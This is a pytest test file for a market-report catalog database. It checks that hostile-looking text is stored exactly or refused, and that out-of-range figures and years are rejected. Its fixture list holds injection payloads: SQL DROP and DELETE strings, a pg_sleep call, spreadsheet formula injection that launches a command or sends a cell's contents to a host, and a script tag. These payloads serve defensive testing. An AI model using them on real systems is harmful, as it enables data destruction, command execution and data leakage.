"""Texts and numbers that are meant to do harm: kept exactly, or refused with a sentence."""

import random
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from markets.catalogs.database import Database, database_catalog, reading, tables, writing
from markets.catalogs.records import Record
from markets.catalogs.statements import Statement
from markets.errors import CatalogError, NotFound, UnknownName
from markets.facts import Dimension, Indicator, Player, Ranking, Report, Segment, Size
from markets.figures import Figure
from markets.names import name_key
from tests.markets.catalogs.conftest import author_in
from tests.markets.made import made

HARMLESS = [
    "'; DROP TABLE facts; --",
    '"; DROP TABLE facts; --',
    "Robert'); DELETE FROM changes WHERE ('1'='1",
    "$$; SELECT pg_sleep(9); $$",
    "%s %(name)s :name ? $1 {0} {name}",
    "\\x00 \\u0000 \\' \\\" \\\\",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    '=HYPERLINK("https://a.b/?"&A1,"x")',
    "<script>alert(1)</script>&lt;&#0;",
    '["a", {"b": null}]',
    "null",
    "{}",
    "a\u202eb\u200fc\u2066d",
    "é e\u0301 ﷺ ﬁ 𝔐 😀 \U0010fffd".replace("\U0010fffd", "字"),
    "a" * 200,
    "😀" * 200,
    "\u00a0x\u2003y\u2028z",
]
REFUSED = {
    "NUL": "a\0b",
    "control": "a\x1bb",
    "newline": "a\nb",
    "surrogate": "a\ud800b",
    "private": "a\ue000b",
    "unassigned": "a\u0378b",
    "1 MB": "a" * 1_000_000,
}
IN_A_TEXT_BESIDE = {"NUL": "a\0b", "surrogate": "a\udfffb"}


def with_text(text: str) -> Report:
    """A report with a text in every field that takes one; figures, codes and addresses take none."""
    base = made([(2023, "1")], publisher=text, name=text, geography=text)
    dimension, piece = text.replace("/", "|"), text[:99]
    full = f"{dimension}/{piece}" if len(text) < 99 else piece
    return msgspec.structs.replace(
        base,
        source=msgspec.structs.replace(base.source, title=text, author=text),
        market=msgspec.structs.replace(base.market, aliases=(text, "other")),
        sizes=(
            Size(at=text, words=text, about=text[:60], value=Figure("1"), year=2023),
            Size(at=text, value=Figure("2"), year=2023, segment=full),
        ),
        dimensions=(Dimension(name=dimension, segments=(Segment(piece, ("A",)),), complete=True, at=text),),
        players=(Player(name=text, at=text),),
        indicators=(
            Indicator(name=text, unit=text, aliases=(text,), origin=text, at=text, value=Figure("-3.5")),
        ),
    )


def entered(database: Database, author: writing.Author, report: Report, **beside: str) -> Record:
    with database.writing() as connection:
        edition = writing.enter(connection, author, report, **beside).edition
    with database.reading() as connection:
        return reading.record(connection, edition)


def is_whole(database: Database, editions: int = 0) -> bool:
    with database.reading() as connection:
        return all(
            connection.scalar(select(func.count()).select_from(table)) == editions
            for table in (tables.editions, tables.changes, tables.headings, tables.audit)
        )


def test_harmless_texts_are_kept_exactly_in_every_field(kept_database: Database) -> None:
    for number, text in enumerate(HARMLESS):
        author = author_in(kept_database, f"team {number}", text)
        why = f"{text} {text}"
        author = writing.Author(text, author.workspace, why)
        report = with_text(text)
        comment = f"{text}\n\t{text}"
        record = entered(kept_database, author, report, file=text, comment=comment, mark=text[:64])
        assert record.report() == report, text
        assert (record.changes[0].who, record.changes[0].why) == (text, why)
        assert (record.heading.file, record.heading.comment) == (text, comment)
        assert database_catalog(kept_database).market(report.market.name).report == report
        with kept_database.writing() as connection:
            assert writing.marked(connection, author.workspace, text[:64]) == record.id
            assert writing.edition_of(connection, author.workspace, report) == record.id
            assert not writing.enter(connection, author, report).changes_something
            name = text[:80].replace("/", ":")  # which no workspace may have
            if name.isprintable():
                assert writing.workspace(connection, name, make=True) == writing.workspace(connection, name)
    with kept_database.reading() as connection:
        assert connection.scalar(select(func.count()).select_from(tables.audit)) == len(HARMLESS)


FIELDS: dict[str, Callable[[Report, str], Report]] = {
    "publisher": lambda report, text: _in(report, "source", publisher=text),
    "title": lambda report, text: _in(report, "source", title=text),
    "author": lambda report, text: _in(report, "source", author=text),
    "url": lambda report, text: _in(report, "source", url=f"https://a.b/{text}"),
    "market": lambda report, text: _in(report, "market", name=text),
    "geography": lambda report, text: _in(report, "market", geography=text),
    "currency": lambda report, text: _in(report, "market", currency=text),
    "scale": lambda report, text: _in(report, "market", scale=text),
    "alias": lambda report, text: _in(report, "market", aliases=(text,)),
    "segment": lambda report, text: made(dimensions={"D": (text,)}),
    "alias of a segment": lambda report, text: made(dimensions={"D": (Segment("S", (text,)),)}),
    "dimension": lambda report, text: made(dimensions={text: ("S",)}),
    "about": lambda report, text: made([(2023, "1", "", text)]),
    "scale of a size": lambda report, text: made([(2023, "1", "", "", text)]),
    "player": lambda report, text: msgspec.structs.replace(report, players=(Player(name=text, at="a"),)),
    "place": lambda report, text: msgspec.structs.replace(report, players=(Player(name="a", at=text),)),
    "words": lambda report, text: msgspec.structs.replace(
        report, players=(Player(name="a", at="a", words=text),)
    ),
    "unit": lambda report, text: _indicator(report, unit=text),
    "origin": lambda report, text: _indicator(report, origin=text),
}


def _in(report: Report, part: str, **fields: Any) -> Report:
    changed = msgspec.structs.replace(getattr(report, part), **fields)
    return msgspec.structs.replace(report, **{part: changed})


def _indicator(report: Report, **fields: str) -> Report:
    known: dict[str, Any] = {"name": "I", "unit": "%", "value": Figure("1"), "at": "a", **fields}
    return msgspec.structs.replace(report, indicators=(Indicator(**known),))


@pytest.mark.parametrize("kind", REFUSED)
def test_texts_that_no_cell_can_show_are_refused_in_every_field(kept_database: Database, kind: str) -> None:
    author = author_in(kept_database, "refusing")
    for field, put in FIELDS.items():
        with pytest.raises(CatalogError) as caught:
            entered(kept_database, author, put(made([(2023, "1")]), REFUSED[kind]))
        assert str(caught.value).endswith("."), field
        assert len(str(caught.value)) < 2000, field
    with kept_database.reading() as connection:
        own = tables.editions.c.workspace_id == author.workspace
        assert connection.scalar(select(func.count()).select_from(tables.editions).where(own)) == 0


@pytest.mark.parametrize("text", IN_A_TEXT_BESIDE.values(), ids=IN_A_TEXT_BESIDE)
@pytest.mark.parametrize("field", ["file", "comment", "mark", "who", "why", "request"])
def test_what_stands_beside_a_report_is_refused_too(database: Database, field: str, text: str) -> None:
    known = author_in(database)
    beside = {field: text} if field in ("file", "comment", "mark") else {}
    more = {} if beside else {field: text}
    author = writing.Author(**{"who": known.who, "workspace": known.workspace, **more})  # type: ignore[arg-type]
    with pytest.raises(CatalogError, match="contains a character that a database cannot store"):
        entered(database, author, made([(2023, "1")]), **beside)
    assert is_whole(database)


@pytest.mark.parametrize(("field", "longest"), [("who", 320), ("why", 2000), ("request", 64)])
def test_a_text_of_an_author_has_an_end(database: Database, field: str, longest: int) -> None:
    known = author_in(database)
    fits, is_longer = (
        writing.Author(**{"who": "ann", "workspace": known.workspace, field: "x" * length})  # type: ignore[arg-type]
        for length in (longest, longest + 1)
    )
    with pytest.raises(CatalogError, match=f"is longer than {longest} characters"):
        entered(database, is_longer, made([(2023, "1")]))
    assert is_whole(database)
    entered(database, fits, made([(2023, "1")]))


@pytest.mark.parametrize(("field", "longest"), [("file", 255), ("mark", 64)])
def test_a_text_beside_a_report_has_an_end(database: Database, field: str, longest: int) -> None:
    author = author_in(database)
    with pytest.raises(CatalogError, match=f"is longer than {longest} characters"):
        entered(database, author, made([(2023, "1")]), **{field: "x" * (longest + 1)})
    assert is_whole(database)
    entered(database, author, made([(2023, "1")]), **{field: "x" * longest}, comment="x" * 1_000_000)


def test_names_of_workspaces_are_kept_or_refused(database: Database) -> None:
    with database.writing() as connection:
        for name in ("a\0b", "a\ud800", "x" * 81, "x" * 1_000_000, "", " ", "a\nb", "a\u202eb", "a/b", ".."):
            with pytest.raises(CatalogError):
                writing.workspace(connection, name, make=True)
            with pytest.raises(NotFound):
                writing.workspace(connection, name)


def test_a_lookup_of_what_no_database_stores_is_answered(database: Database, author: writing.Author) -> None:
    for text in ("a\0b", "a\ud800b"):
        with database.reading() as connection:
            try:
                assert writing.marked(connection, author.workspace, text) is None
            except CatalogError as error:
                assert str(error) == "This holds a character or a number that a database cannot store."
        with pytest.raises(UnknownName):
            database_catalog(database).market(text)


@pytest.mark.parametrize(
    "figure", ["9" * 15, "0.000000000001", "999,999,999,999,999,999.999999999999", "−1", "1,00,00,000.50"]
)
def test_figures_are_kept_as_printed(database: Database, author: writing.Author, figure: str) -> None:
    report = _indicator_of(figure)
    assert entered(database, author, report).report() == report
    with database.reading() as connection:
        number = connection.scalar(select(tables.facts.c.number_value))
    assert float(number or 0) == pytest.approx(Figure(figure).value, rel=1e-15)


def _indicator_of(figure: str) -> Report:
    return msgspec.structs.replace(
        made(), indicators=(Indicator(name="I", unit="%", value=Figure(figure), at="a"),)
    )


@pytest.mark.parametrize("figure", ["1,000,000,000,000,000,000", "9" + ",999" * 30, "-1" + ",000" * 6])
def test_figures_beyond_all_columns_are_refused(
    database: Database, author: writing.Author, figure: str
) -> None:
    with pytest.raises(CatalogError, match=r"indicators\[0\].value: must be below 1,000,000,000,000,000,000"):
        entered(database, author, _indicator_of(figure))
    assert is_whole(database)


@pytest.mark.parametrize("year", [-1, 0, 1899, 2201, 9999, 2**31, 2**63, 10**30])
def test_years_out_of_range_are_refused(database: Database, author: writing.Author, year: int) -> None:
    ranked = msgspec.structs.replace(
        made(dimensions={"D": ("S",)}), rankings=(Ranking(segment="S", by="size", year=year, at="r"),)
    )
    for report in (made([(year, "1")]), made(cagrs=[("1", year)]), made(base_year=year), ranked):
        with pytest.raises(CatalogError, match="must be a year from 1900 to 2200"):
            entered(database, author, report)
    assert is_whole(database)


@pytest.mark.parametrize("place", [2**31, 2**63, 10**30])
def test_places_beyond_all_columns_are_refused(
    database: Database, author: writing.Author, place: int
) -> None:
    report = made(dimensions={"D": ("S",)})
    report = msgspec.structs.replace(report, rankings=(Ranking(segment="S", by="size", place=place, at="r"),))
    with pytest.raises(CatalogError, match="must be at most 2,147,483,647"):
        entered(database, author, report)


@pytest.mark.parametrize("text", HARMLESS[:8])
def test_corrections_are_kept_exactly_too(kept_database: Database, text: str) -> None:
    author = writing.Author(
        text, author_in(kept_database, f"corrected {text}"[:80].replace("/", ":")).workspace, text
    )
    record = entered(kept_database, author, made([(2023, "1")]))
    row = Statement(kind="size", at=text, words=text, about=text[:60], year=2023, value="2")
    with kept_database.writing() as connection:
        writing.correct(connection, author, record.id, 1, 1, row)
        added = writing.add(connection, author, record.id, Statement(kind="player", at=text, name=text))
        record = reading.record(connection, record.id)
    assert {one.fact: one.statement for one in record.at()}[1] == row
    assert record.report().players[0].name == text
    assert (added, record.changes[-1].who, record.changes[-1].why) == (2, text, text)


def test_keys_that_grow_too_long_when_they_are_folded_are_refused(
    database: Database, author: writing.Author
) -> None:
    growing = [one for one in map(chr, range(0x3200, 0xFFFF)) if len(name_key(one)) > 2 and one.isprintable()]
    texts = ("".join(random.Random(seed).choices(growing, k=200)) for seed in range(3))
    long = made([(2023, "1")], name=next(texts), publisher=next(texts), geography=next(texts))
    with pytest.raises(CatalogError, match="is too long, together with geography and publisher"):
        entered(database, author, long)
    assert is_whole(database)
    longest = made([(2023, "1")], name="".join(random.Random(9).choices(growing, k=100)), publisher="é" * 200)
    assert entered(database, author, longest).report() == longest


_ANY = st.sampled_from(
    ["", "a", "S", "D", "x" * 300, "a\0", "\ud800", "=1", "8.6", "9" * 400, "−2", "size", "growth"]
)
_FIGURE = st.sampled_from(["8.6", "5", "1,000"]) | _ANY
_WHOLE = st.sampled_from([None, 0, 1, 2023, -5, 2**31, 2**70])
_SEGMENT = st.sampled_from(["", "S", "D/S"]) | _ANY


@settings(max_examples=150, deadline=None)
@given(
    st.builds(
        Statement,
        kind=st.sampled_from(["size", "cagr", "dimension", "share", "ranking", "player", "indicator"]),
        **dict.fromkeys(["at", "words", "name", "about", "unit", "by", "origin"], _ANY),
        **dict.fromkeys(["year", "first_year", "last_year", "rank"], _WHOLE),
        segment=_SEGMENT,
        value=_FIGURE,
        scale=st.none() | _ANY,
        complete=st.sampled_from([None, True, False]),
        aliases=st.lists(_ANY, max_size=2).map(tuple),
        segments=st.lists(st.builds(Segment, _ANY), max_size=2).map(tuple),
    )
)
def test_any_row_that_a_client_sends_is_kept_or_refused(kept_database: Database, row: Statement) -> None:
    author = author_in(kept_database, "rows")
    record = entered(kept_database, author, made([(2023, "1")], dimensions={"D": ("S",)}))
    try:
        with kept_database.writing() as connection:
            fact = writing.add(connection, author, record.id, row)
    except CatalogError:
        return
    with kept_database.writing() as connection:
        kept = reading.record(connection, record.id)
        writing.correct(connection, author, record.id, fact, 1, None)
    assert len(kept.report().facts) == len(record.report().facts) + 1
